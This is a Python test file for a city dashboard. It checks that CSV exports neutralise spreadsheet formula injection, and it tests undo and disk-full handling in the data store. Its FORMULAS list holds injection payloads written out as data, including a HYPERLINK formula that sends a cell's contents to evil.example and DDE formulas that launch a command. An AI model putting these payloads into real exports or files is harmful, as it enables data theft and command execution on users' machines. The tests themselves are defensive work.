"""Issue 11: formula injection in every spreadsheet-bound export (finding 5), and the store's
write path: undo checks inside its transaction, a full disk during a commit (low findings).

Real builds (the session's official build, private copies for writes), real files, real
child processes; nothing of our own is mocked.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import textwrap
import threading
import time

import pandas as pd
import pytest

from dashboard import loads, opendata, report
from dashboard.ui.meetings import change_table
from dashboard.safety import FORMULA_START, csv_cell, csv_frame
from dashboard.store import Store

from ..conftest import make_env

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', '=cmd|" /C calc"!A0',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"]


def _load(store: Store, text: str, file: str) -> dict:
    validated = loads.validate_file(text.encode("utf-8"), file, store)
    assert validated.ok, validated.errors.to_dict("records")
    return loads.commit(store, validated, who="test", confirm_warnings=True)


NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


def _unsafe(cell: str) -> bool:
    """Text a spreadsheet would run: starts like a formula and is not a plain number."""
    return (isinstance(cell, str) and cell.startswith(FORMULA_START)
            and not NUMBER.fullmatch(cell))


def _cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


def test_csv_cell_rules():
    for f in FORMULAS:
        assert csv_cell(f) == "'" + f
    assert csv_cell("Kortrijk") == "Kortrijk" and csv_cell(-4) == -4 and csv_cell(None) is None
    frame = pd.DataFrame({"n": [-4.5, 2.0], "s": ["=1+1", "ok"], "=kop": ["a", "b"]})
    out = csv_frame(frame)
    assert out["n"].tolist() == [-4.5, 2.0]  # numbers stay numbers
    assert out["s"].tolist() == ["'=1+1", "ok"] and list(out.columns) == ["n", "s", "'=kop"]
    assert frame["s"].tolist() == ["=1+1", "ok"]  # the input frame is not changed


def test_finding_05_formula_text_from_loads_is_neutralised_in_every_csv(built_copy):
    """Sources, notes and file names (the default source) from a load reach the open-data
    CSV, the chart and map CSVs, the changes CSV and the load template neutralised, while
    negative numbers stay numbers."""
    rows = "\n".join(f"laadpunten;34022;{2010 + i};{700 + i};{f.strip()};{f.strip()}"
                     for i, f in enumerate(FORMULAS))
    text = f"indicator;gebied;jaar;waarde;bron;opmerking\n{rows}\n"
    with Store(built_copy.db_path) as store:
        _load(store, text, "metingen.csv")
        # The file name becomes the source of rows without one.
        _load(store, "indicator;gebied;jaar;waarde\nlaadpunten;34022;2009;650\n",
              "=HYPERLINK(1).csv")
        board = opendata.collect(store, built_copy)
        city = store.city_measurements()
        indicator = store.indicator("laadpunten")
        goals = store.goals("laadpunten")
    # Open data: every text cell of every row is safe, the loaded values are still there.
    data = _cells(opendata.csv_bytes(board, "laadpunten"))
    header, body = data[0], data[1:]
    assert not [c for r in body for c in r if _unsafe(c)]
    sources = {r[header.index("source")] for r in body}
    assert "'" + FORMULAS[0] in sources and "'=HYPERLINK(1).csv" in sources
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r[header.index("note")] for r in body}
    whole = _cells(opendata.csv_bytes(board))  # the board-wide file too
    assert not [c for r in whole[1:] for c in r if _unsafe(c)]
    # Chart and map CSVs (exports.csv_button writes report.to_csv of these frames).
    series = city[city["indicator_id"] == "laadpunten"]
    hostile = {**indicator, "name": "=1+1 laadpunten", "unit": "@eenheid"}
    chart = _cells(report.to_csv(report.chart_table(hostile, series, goals)))
    assert chart[1:] and not [c for r in chart for c in r if _unsafe(c)]
    mapped = _cells(report.to_csv(report.map_table(
        hostile, {"34022A00-": -4.0}, {"34022A00-": "=Wijk"}, 2024, True)))
    assert not [c for r in mapped for c in r if _unsafe(c)]
    assert any(c == "-4.0" for r in mapped for c in r)  # the number stays a number
    # The changes table (meetingviews' CSV download).
    diff = pd.DataFrame({"spearhead_id": [5], "name": ["=evil()"], "unit": ["+x"],
                         "value_old": [1.0], "year_old": [2023], "value_new": [-2.0],
                         "year_new": [2024], "status_label_old": ["@a"],
                         "status_label_new": ["-b"], "areas_changed": [0]})
    changes_csv = _cells(report.to_csv(change_table(diff)))
    assert not [c for r in changes_csv for c in r if _unsafe(c)]
    # The load template: area names come from geodata.
    areas = pd.DataFrame({"code": ["34022"], "name": ["=Kortrijk"], "level": ["gemeente"]})
    template = _cells(loads.template_csv({**indicator, "unit": "-%"}, areas, 2025), ";")
    assert not [c for r in template for c in r if _unsafe(c)]


def test_finding_low_undo_checks_inside_its_transaction(built_copy):
    """Forced interleaving: undo of load A has passed its checks when load B, which
    replaces A's value, commits through another connection. The undo must then refuse
    (or abort), never leave two current values."""
    path = built_copy.db_path
    with Store(path) as first:
        a = _load(first, "indicator;gebied;jaar;waarde\nlaadpunten;34022;2024;701\n", "a.csv")
        second = Store(path)  # same file, same process: shared database, its own lock
        errors: list[BaseException] = []

        def undo() -> None:
            try:
                first.undo_batch(a["batch_id"])
            except BaseException as exc:  # noqa: BLE001 - recorded for the assertion
                errors.append(exc)

        first._write_lock.acquire()  # the undo stops right before its write transaction
        worker = threading.Thread(target=undo)
        worker.start()
        time.sleep(0.5)  # let it run its checks (old code: outside the transaction)
        try:
            _load(second, "indicator;gebied;jaar;waarde\nlaadpunten;34022;2024;702\n",
                  "b.csv")
        finally:
            first._write_lock.release()
        worker.join(30)
        current = first._rows(
            "SELECT value FROM current_measurement WHERE indicator_id = 'laadpunten' "
            "AND area_code = '34022' AND period = 2024")
        second.close()
    assert len(current) == 1, current
    assert current[0][0] == 702.0
    assert errors and "latere lading" in str(errors[0]), errors


def _table_checksums(path) -> dict:
    with Store(path, read_only=True) as s:
        return s.table_checksums()


def _fsize_limit(limit: int):
    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a refused write returns EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


# 5 areas × 24 years: a load whose WAL record is far larger than 4 KB.
BIG_LOAD = "indicator;gebied;jaar;waarde\n" + "".join(
    f"laadpunten;{code};{2001 + i};{1000 + i}\n"
    for code in ("34022", "34022A", "34022B", "34022C", "34022D") for i in range(24))


def test_finding_low_disk_full_during_commit_cli(built_copy, tmp_path):
    """The CLI import on a disk that refuses the write: exit 4, a message, nothing written.

    RLIMIT_FSIZE lets the child write no file beyond a few KB: DuckDB's WAL write fails
    at COMMIT as on a full disk."""
    path = built_copy.db_path
    before = _table_checksums(path)
    file = tmp_path / "groot.csv"
    file.write_text(BIG_LOAD, encoding="utf-8")
    env = {**os.environ, **make_env(path.parent.parent)}
    proc = subprocess.run([sys.executable, "-m", "dashboard", "import", str(file)],
                          capture_output=True, text=True, env=env, timeout=300,
                          preexec_fn=_fsize_limit(4096))
    assert proc.returncode == 4, (proc.returncode, proc.stderr[-2000:])
    assert "kon niet schrijven" in proc.stderr and "Traceback" not in proc.stderr
    assert _table_checksums(path) == before


PAGE_SCRIPT = textwrap.dedent("""
    import json, resource, signal, sys
    from streamlit.testing.v1 import AppTest
    app, data, limit = sys.argv[1], sys.argv[2], int(sys.argv[3])
    at = AppTest.from_file(app, default_timeout=180)
    at.run(); at.switch_page("app_pages/load.py"); at.run()
    at.text_input[0].set_value("kortrijk-2040-test"); at.button[0].click().run()
    at.get("file_uploader")[0].set_value(("groot.csv", open(data, "rb").read(),
                                          "text/csv")).run()
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    next(b for b in at.button if b.label == "Laden").click().run()
    print(json.dumps({"exception": [str(e.value) for e in at.exception],
                      "error": [e.value for e in at.error],
                      "success": [s.value for s in at.success]}))
""")


def test_finding_low_disk_full_during_commit_load_page(built_copy, tmp_path):
    """The load page on a disk that refuses the write: an error message on the page, no
    exception, nothing written."""
    from dashboard.auth import hash_password
    from dashboard.settings import PROJECT_ROOT

    path = built_copy.db_path
    before = _table_checksums(path)
    data = tmp_path / "groot.csv"
    data.write_text(BIG_LOAD, encoding="utf-8")
    script = tmp_path / "page.py"
    script.write_text(PAGE_SCRIPT, encoding="utf-8")
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("DASHBOARD_")},
           **make_env(path.parent.parent),
           "DASHBOARD_EDITOR_PASSWORD_HASH": hash_password("kortrijk-2040-test",
                                                           salt="s", iterations=1_000)}
    proc = subprocess.run([sys.executable, str(script), str(PROJECT_ROOT / "app.py"),
                           str(data), "4096"], capture_output=True, text=True, env=env,
                          timeout=600, cwd=PROJECT_ROOT)
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    assert not result["exception"], result
    assert not [s for s in result["success"] if "Geladen als" in s], result
    assert any("kon niet schrijven" in e and "niets" in e for e in result["error"]), result
    assert _table_checksums(path) == before


@pytest.mark.parametrize("limit", [4096])
def test_store_stays_usable_after_a_refused_commit(built_copy, limit):
    """After the disk refused a commit, the same connection reads and (with room again)
    writes: DuckDB rolled the transaction back, it did not invalidate the database."""
    code = textwrap.dedent(f"""
        import resource, signal, json
        from dashboard import loads
        from dashboard.errors import StoreWriteError
        from dashboard.store import Store
        s = Store({str(built_copy.db_path)!r})
        v = loads.validate_file({BIG_LOAD!r}.encode(), "groot.csv", s)
        soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, hard))
        try:
            loads.commit(s, v, who="t")
            refused = False
        except StoreWriteError:
            refused = True
        resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))
        done = loads.commit(s, v, who="t")
        print(json.dumps({{"refused": refused, "rows": done["rows"]}}))
    """)
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == {"refused": True, "rows": 120}
